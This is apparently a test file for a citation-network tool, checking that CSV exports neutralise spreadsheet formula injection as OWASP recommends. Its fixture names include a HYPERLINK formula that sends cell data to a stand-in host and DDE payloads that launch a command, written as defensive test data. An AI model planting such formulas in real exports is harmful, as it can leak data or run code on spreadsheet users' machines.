/**
 * Spreadsheet formula injection (issue 12, point 5): names such as `=HYPERLINK(...)`, `+cmd|...` and
 * `@SUM(...)` come out of every CSV (export, networkExport, report) with a single quote before them,
 * as OWASP's CSV injection guidance recommends; `--csv-raw` writes them as they are.
 */
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { analyzeNetwork } from '../../src/analysis/analyzed-network.ts';
import { main } from '../../src/cli.ts';
import { loadData } from '../../src/commands/load-data.ts';
import { checkConfig } from '../../src/config.ts';
import { csvField } from '../../src/export/csv-field.ts';
import { bundledApp, query } from '../helpers/app.ts';
import { captureIO, tempFiles } from '../helpers/files.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];
const papers = [
  { id: 'p1', title: 'One', authors: [HOSTILE[0], HOSTILE[1], 'Ada Lovelace'], year: 2020 },
  { id: 'p2', title: 'Two', authors: [HOSTILE[2], HOSTILE[3], 'Ada Lovelace'], year: 2021 },
];
const file = tempFiles({ 'hostile.jsonl': papers.map((paper) => JSON.stringify(paper)).join('\n') })['hostile.jsonl']!;

async function run(command: string, ...args: string[]) {
  const io = captureIO();
  const code = await main([command, ...args], io);
  return { code, ...io };
}

const cells = (csv: string) => (parseCsv(csv, { relaxColumnCount: true }) as string[][]).flat();

describe('csvField', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@A1', "'@A1"],
    ['\tx', "'\tx"],
    ['\rx', '"\'\rx"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['Ada', 'Ada'],
  ])('writes %j as %j', (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it('leaves numbers alone (a negative coordinate is a number, not a formula) and text as it is with raw', () => {
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField('=1+1', { raw: true })).toBe('=1+1');
  });
});

describe('export --format csv', () => {
  it('neutralises every hostile name in both tables, and --csv-raw keeps the bytes', async () => {
    const safe = await run('export', '--data', file, '--format', 'csv', '--no-cache');
    expect(safe.code).toBe(0);
    const written = cells(safe.stdout);
    for (const name of HOSTILE) {
      expect(written).toContain(`'${name}`);
      expect(written).not.toContain(name);
    }
    expect(written.filter((cell) => /^[=+\-@\t\r]/u.test(cell) && !/^-?\d/u.test(cell))).toEqual([]);
    const raw = await run('export', '--data', file, '--format', 'csv', '--no-cache', '--csv-raw');
    for (const name of HOSTILE) expect(cells(raw.stdout)).toContain(name);
  });

  it('neutralises names in the files written with --out', async () => {
    const out = join(dirname(file), 'net.csv');
    expect((await run('export', '--data', file, '--format', 'csv', '--no-cache', '--out', out)).code).toBe(0);
    const nodes = readFileSync(join(dirname(file), 'net.nodes.csv'), 'utf8');
    expect(cells(nodes)).toContain(`'${HOSTILE[0]}`);
  });

  it('refuses --csv-raw with another format', async () => {
    const { code, stderr } = await run('export', '--data', file, '--format', 'gexf', '--csv-raw');
    expect(code).not.toBe(0);
    expect(stderr).toContain('--csv-raw only applies to --format csv');
  });
});

describe('report --format csv', () => {
  it('neutralises hostile names, and --csv-raw keeps them', async () => {
    const safe = await run(
      'report',
      '--data',
      file,
      '--metric',
      'degree',
      '--top',
      '10',
      '--format',
      'csv',
      '--no-cache',
    );
    expect(safe.code).toBe(0);
    for (const name of HOSTILE) expect(cells(safe.stdout)).toContain(`'${name}`);
    const raw = await run(
      'report',
      '--data',
      file,
      '--metric',
      'degree',
      '--top',
      '10',
      '--format',
      'csv',
      '--no-cache',
      '--csv-raw',
    );
    for (const name of HOSTILE) expect(cells(raw.stdout)).toContain(name);
  });
});

describe('networkExport (GraphQL)', () => {
  it('neutralises hostile names in NODES_CSV and EDGES_CSV', async () => {
    const app = bundledApp({ data: analyzeNetwork(loadData(checkConfig(['--data', file])).network) });
    for (const format of ['NODES_CSV', 'EDGES_CSV']) {
      const { networkExport } = await query(app, `{ networkExport(format: ${format}) { content } }`);
      const written = cells(networkExport.content as string);
      expect(written).toContain(`'${HOSTILE[1]}`);
      expect(written).not.toContain(HOSTILE[1]);
    }
  });
});
